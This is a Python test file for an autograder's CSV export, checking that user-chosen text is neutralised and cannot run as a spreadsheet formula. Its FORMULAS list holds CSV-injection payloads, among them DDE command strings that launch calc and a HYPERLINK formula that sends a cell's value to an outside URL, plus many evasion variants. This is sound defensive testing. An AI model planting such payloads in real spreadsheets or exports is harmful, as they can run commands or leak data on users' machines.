"""Nothing that somebody else chose is a formula when a spreadsheet opens an export, whatever separator it splits at."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import fields

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.grading import exports
from autograder.grading.exports import Entry
from autograder.grading.spreadsheet import cell, is_formula, original

FORMULAS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.org/?"&A1,"Ada")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "Ada;=1+1",
    "Ada; =1+1",
    "Ada,=1+1",
    "Ada =1+1",
    'Ada";=1+1',
    '"=1+1',
    "Ada\n=1+1",
    "Ada\u2028=1+1",
    "Ada|@SUM(1)",
    "＝1+1",
    "＠SUM(1)",
    "Ada -a|cmd",
    "Ada --ab|cmd' /C calc'!A0",
    "Ada --ab(1)",
    "Ada --ab.cd(1)",
    "Ada -a1",
    "Ada --force +1+cmd|x",
    "Ada; -a HYPERLINK(1)",
    "-o",
    "--force",
]
COMMANDS = [
    'Run `python3 course.py grade … --unsigned "all.zip: a b.zip"`; that is remembered, and --take-back takes it back.',
    "python3 course.py grade submissions/ --unsigned 'its.zip' --received-at 2026-11-20T23:59+01:00",
    "docker build -t \"me/app:1\" --label a='b c' .",
    "Run `docker run -d --rm registry:2 --help`: (see -o).",
    'jq "select(.name)" -r',
]
ORDINARY = [
    "Ada Lovelace",
    "Jean-Luc O'Neil",
    "ada+tag@example.org",
    "2025-03-01T10:00:00+00:00",
    "3 - 2 = 1",
    "level: “passed 2” – then",
    "לאה כהן",
    "90-tiny/why 90-tiny/double",
    "",
    "?",
    "it's -",
    *COMMANDS,
]


def starts(text):
    """Where a cell could begin: at the start, behind separators and quotes, and behind blanks."""
    return [part.strip(" \x00\xa0\ufeff") for part in re.split(r"[,;|\"\t\r\n\u2028]| (?=\S)", text)]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_that_can_still_be_read(text):
    made = cell(text)
    assert is_formula(text) and not is_formula(made)
    signed = [part for part in starts(made) if part[:1] in tuple("=+-@＝＋－＠")]
    assert not [part for part in signed if not re.fullmatch(r"--[a-z]+|-[a-z]", part)], made
    assert made[:1] not in ("\t", "\r", "\n")
    assert made.replace("'", "") == text.replace("'", "")  # nothing but apostrophes came


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_cells_stay_as_they_are(text):
    assert cell(text) == text == original(text)


def test_numbers_are_short_and_lists_have_blanks():
    assert (cell(3.50), cell(-1.0), cell(("a", "b"))) == ("3.5", "-1", "a b")


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_comes_out_of_a_csv_file_as_it_was(command):
    values = {f.name: 1.0 if f.type in ("float", "int") else () if "tuple" in f.type else "x" for f in fields(Entry)}
    text = exports.as_csv([Entry(**values | {"remark": command})])
    [row] = csv.DictReader(io.StringIO(text, newline=""))
    assert row["remark"] == command


@given(st.text(alphabet="=+-@;, '\"ab1|", max_size=30))
def test_escaping_twice_changes_nothing_more_and_goes_back(text):
    made = cell(text)
    assert cell(made) == made
    assert original(made) == original(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_column_of_the_export_holds_a_formula(text):
    values = {
        field.name: text if field.type == "str" or field.name == "status" else (text,) if "tuple" in field.type else 1.0
        for field in fields(Entry)
    }
    [head, row] = csv.reader(io.StringIO(exports.as_csv([Entry(**values)]), newline=""))
    assert len(row) == len(head) == len(exports.COLUMNS) and [value for value in row if is_formula(value)] == []
